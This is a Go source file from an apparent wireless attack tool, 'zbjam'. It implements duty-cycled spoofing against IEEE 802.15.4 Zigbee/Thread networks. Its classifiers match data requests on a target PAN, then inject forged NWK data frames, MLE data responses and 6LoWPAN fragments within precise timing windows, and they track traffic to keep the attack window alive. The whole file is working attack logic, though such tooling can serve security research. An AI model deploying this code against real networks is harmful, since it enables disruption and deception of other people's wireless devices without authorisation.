package attack

import (
	"time"

	proto "github.com/ystepanoff/zbjam/protocol"
)

// Duty-cycled data request spoofs. The first frame after start only arms
// the timer; matching frames then act only inside the active window.

const securedDataRequestPHYLen = 22

type dutyDataRequest struct {
	p proto.Params
	spoofPair
}

func newDutyDataRequest(p proto.Params) *dutyDataRequest {
	a := &dutyDataRequest{p: p}
	a.init(proto.AppendNWKData(nil, p))
	return a
}

func (a *dutyDataRequest) ID() ID { return DutyDataRequestSpoof }

func (a *dutyDataRequest) Classify(f *Frame) Outcome {
	if f.ArmOnce() {
		return ignore()
	}
	l := f.Length()
	if !proto.ValidPHYLen(l) {
		return ignore()
	}
	if l != dataRequestPHYLen {
		a.observe(f, l)
		return ignore()
	}
	seq, ok := dataRequestFields(f, a.p.PANID, false)
	if !ok || !f.Gate() {
		return ignore()
	}
	return a.outcome(seq, 272*time.Microsecond, 400*time.Microsecond, proto.NWKDataPHYLen)
}

// observe looks for traffic proving the tracked child is still around:
// a NWK command to or from it, or an association request on the PAN.
// Either restarts the idle window. The frame itself is never attacked.
func (a *dutyDataRequest) observe(f *Frame, l byte) {
	fcl := f.Next()
	switch proto.FrameType(fcl) {
	case proto.FrameTypeData:
		if l < 10 || proto.Secured(fcl) || !proto.PANIDCompressed(fcl) {
			return
		}
		fch := f.Next()
		if proto.FrameVersion(fch) != proto.FrameVersion2003 || !proto.ShortAddressed(fch) {
			return
		}
		f.Skip(1)
		if !f.ExpectUint16(a.p.PANID) {
			return
		}
		dst, src := f.Uint16(), f.Uint16()
		if dst != a.p.ShortDstAddr && src != a.p.ShortDstAddr {
			return
		}
		if proto.NWKFrameType(f.Next()) == proto.NWKFrameTypeCommand {
			f.ResetIdle()
		}

	case proto.FrameTypeCommand:
		if l < 18 || proto.Secured(fcl) || !proto.AckRequested(fcl) || proto.PANIDCompressed(fcl) {
			return
		}
		fch := f.Next()
		if proto.FrameVersion(fch) != proto.FrameVersion2003 ||
			proto.DstAddrMode(fch) != proto.DstAddrShort ||
			proto.SrcAddrMode(fch) != proto.SrcAddrExt {
			return
		}
		f.Skip(1)
		if !f.ExpectUint16(a.p.PANID) {
			return
		}
		f.Skip(2)
		if !f.ExpectUint16(proto.BroadcastPANID) {
			return
		}
		f.Skip(8)
		if f.Next() == proto.MACCmdAssociationRequest {
			f.ResetIdle()
		}
	}
}

// securedDataRequest matches the 22-byte secured data request and
// consults the gate.
func securedDataRequest(f *Frame, pan uint16) (byte, bool) {
	if f.ArmOnce() {
		return 0, false
	}
	if f.Length() != securedDataRequestPHYLen {
		return 0, false
	}
	seq, ok := dataRequestFields(f, pan, true)
	if !ok || !f.Gate() {
		return 0, false
	}
	return seq, true
}

type dutyMLE struct {
	p proto.Params
	spoofPair
}

func newDutyMLE(p proto.Params) *dutyMLE {
	a := &dutyMLE{p: p}
	a.init(proto.AppendMLEDataResponse(nil, p))
	return a
}

func (a *dutyMLE) ID() ID { return DutyMLESpoof }

func (a *dutyMLE) Classify(f *Frame) Outcome {
	seq, ok := securedDataRequest(f, a.p.PANID)
	if !ok {
		return ignore()
	}
	return a.outcome(seq, 752*time.Microsecond, 560*time.Microsecond, proto.MLEPHYLen)
}

type dutyFragment struct {
	p   proto.Params
	tag uint16
	spoofPair
}

func newDutyFragment(p proto.Params) *dutyFragment {
	a := &dutyFragment{p: p, tag: p.DatagramTag}
	a.init(proto.AppendFragment(nil, p, p.DatagramTag))
	return a
}

func (a *dutyFragment) ID() ID { return DutyFragmentSpoof }

// Tag is the datagram tag the next spoofed fragment will carry.
func (a *dutyFragment) Tag() uint16 { return a.tag }

func (a *dutyFragment) Classify(f *Frame) Outcome {
	seq, ok := securedDataRequest(f, a.p.PANID)
	if !ok {
		return ignore()
	}
	proto.PutFragmentTag(a.reply[:a.replyLen], a.tag)
	a.tag++ // wraps to 0 after 0xffff
	return a.outcome(seq, 752*time.Microsecond, 560*time.Microsecond, proto.FragmentPHYLen)
}
